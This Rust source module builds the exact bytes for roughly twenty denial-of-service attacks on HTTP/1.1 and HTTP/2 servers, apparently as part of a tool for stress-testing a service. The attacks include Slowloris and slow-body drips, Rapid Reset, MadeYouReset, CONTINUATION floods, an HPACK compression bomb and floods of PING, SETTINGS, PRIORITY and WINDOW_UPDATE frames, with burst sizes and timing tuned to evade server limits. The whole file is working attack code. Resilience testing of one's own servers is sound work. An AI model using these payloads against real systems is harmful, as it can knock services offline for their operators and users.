//! The bytes that each attack sends.

use std::time::Duration;

use super::Attack;
use super::frames::{self, ACK, END_HEADERS, END_STREAM, GET, INITIAL_WINDOW_SIZE, POST, kind};

/// Requests, streams or frames in one write.
const BURST: u32 = 1000;

/// Below SETTINGS_MAX_CONCURRENT_STREAMS of any server (RFC 9113, 6.5.2).
const FEW_STREAMS: u32 = 100;

/// The pause of a slow client between two bytes, shorter than a server's idle timeout.
const DRIP: Duration = Duration::from_millis(250);

/// What one connection of an attack sends.
pub(super) struct Script {
    /// Its first bytes.
    pub(super) opening: Vec<u8>,
    /// The bytes of its n-th write after that; `None` is to wait.
    pub(super) next: fn(u32) -> Option<Vec<u8>>,
    /// From one write to the next.
    pub(super) pause: Duration,
    /// Whether responses are read.
    pub(super) reads: bool,
}

impl Script {
    pub(super) fn of(attack: Attack) -> Self {
        let flood = |opening: Vec<u8>, next| Self { opening, next, pause: Duration::ZERO, reads: true };
        let drip = |opening: &[u8], next| Self { opening: opening.to_vec(), next, pause: DRIP, reads: true };
        // With a request under way the connection is not idle.
        let busy = || [frames::opening(&[]), frames::headers(1, 0, POST)].concat();
        match attack {
            Attack::Slowloris => drip(b"POST /v1/payloads HTTP/1.1\r\nHost: x\r\n", |at| {
                b"X-A: b\r\n".get(at as usize % 8).map(|byte| vec![*byte])
            }),
            Attack::SlowBody => {
                drip(b"POST /v1/payloads HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n", |_| {
                    Some(b"{".to_vec())
                })
            }
            Attack::Unread => Self { reads: false, ..flood(Vec::new(), |_| Some(gets())) },
            Attack::UnreadStreams => flood(frames::opening(&[(INITIAL_WINDOW_SIZE, 0)]), |at| {
                Some(burst(at, FEW_STREAMS, |stream| frames::headers(stream, END_STREAM, GET)))
            }),
            Attack::Idle => flood(Vec::new(), |_| None),
            Attack::Pipeline => flood(Vec::new(), |_| Some(gets())),
            Attack::RapidReset => flood(frames::opening(&[]), |at| {
                Some(burst(at, BURST, |stream| {
                    [frames::headers(stream, END_STREAM, GET), frames::cancel(stream)].concat()
                }))
            }),
            // An increment of 0 is a stream error: the server has to reset the stream (RFC 9113, 6.9).
            Attack::MadeYouReset => flood(frames::opening(&[]), |at| {
                Some(burst(at, BURST, |stream| {
                    [frames::headers(stream, 0, POST), frames::window_update(stream, 0)].concat()
                }))
            }),
            Attack::Continuation => {
                let begun = frames::frame(kind::HEADERS, END_STREAM, 1, GET);
                flood([frames::opening(&[]), begun].concat(), |_| {
                    let field = frames::field(b"x-a", &[b'b'; 100]);
                    Some(frames::frame(kind::CONTINUATION, 0, 1, &field.repeat(16)).repeat(16))
                })
            }
            Attack::EmptyContinuation => {
                let begun = frames::frame(kind::HEADERS, END_STREAM, 1, GET);
                flood([frames::opening(&[]), begun].concat(), |_| {
                    Some(frames::frame(kind::CONTINUATION, 0, 1, &[]).repeat(BURST as usize))
                })
            }
            // A field of 4,000 bytes goes into the table, and each byte after it is that field again (RFC 7541, 6.1).
            Attack::HpackBomb => flood(frames::opening(&[]), |at| {
                let stream = |which: u32| stream(at * 2 + which);
                let big = [&[0x40, 0x01, b'a', 0x7f, 0xa1, 0x1e][..], &[b'b'; 4000]].concat();
                let (first, again) = ([GET, &big].concat(), [GET, &[0xbe; 12_000]].concat());
                let first = frames::headers(stream(0), END_STREAM, &first);
                Some([first, frames::headers(stream(1), END_STREAM, &again)].concat())
            }),
            Attack::MalformedHeaders => flood(frames::opening(&[]), |at| {
                let block = [GET, &[0x84; 12_000]].concat();
                Some(burst(at, 10, |stream| frames::headers(stream, END_STREAM, &block)))
            }),
            Attack::Ping => {
                flood(busy(), |_| Some(frames::frame(kind::PING, 0, 0, b"12345678").repeat(BURST as usize)))
            }
            Attack::Settings => flood(busy(), |at| {
                let window = |n: u32| frames::settings(&[(1, 4096 * (n % 2)), (INITIAL_WINDOW_SIZE, 65_535 - n % 7)]);
                Some((0..BURST).flat_map(|n| window(at + n)).collect())
            }),
            Attack::Priority => flood(busy(), |at| {
                Some(burst(at, BURST, |stream| frames::frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 16])))
            }),
            Attack::EmptyData => flood(busy(), |_| Some(frames::frame(kind::DATA, 0, 1, &[]).repeat(BURST as usize))),
            Attack::WindowUpdate => flood(busy(), |_| Some(frames::window_update(0, 1).repeat(BURST as usize))),
            Attack::UnreadPings => Self {
                reads: false,
                ..flood(busy(), |_| Some(frames::frame(kind::PING, 0, 0, b"12345678").repeat(BURST as usize)))
            },
            Attack::SettingsAcks => {
                flood(busy(), |_| Some(frames::frame(kind::SETTINGS, ACK, 0, &[]).repeat(BURST as usize)))
            }
            Attack::Trailers => flood(busy(), |_| {
                Some(frames::frame(kind::HEADERS, END_HEADERS | END_STREAM, 1, &frames::field(b"x-a", b"b")).repeat(2))
            }),
        }
    }
}

/// The n-th stream that a client opens.
fn stream(n: u32) -> u32 {
    (2 * n + 1) & 0x7fff_ffff
}

/// `count` frames, each of a stream of its own.
fn burst(at: u32, count: u32, frame: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..count).flat_map(|n| frame(stream(at * count + n))).collect()
}

fn gets() -> Vec<u8> {
    b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n".repeat(BURST as usize)
}
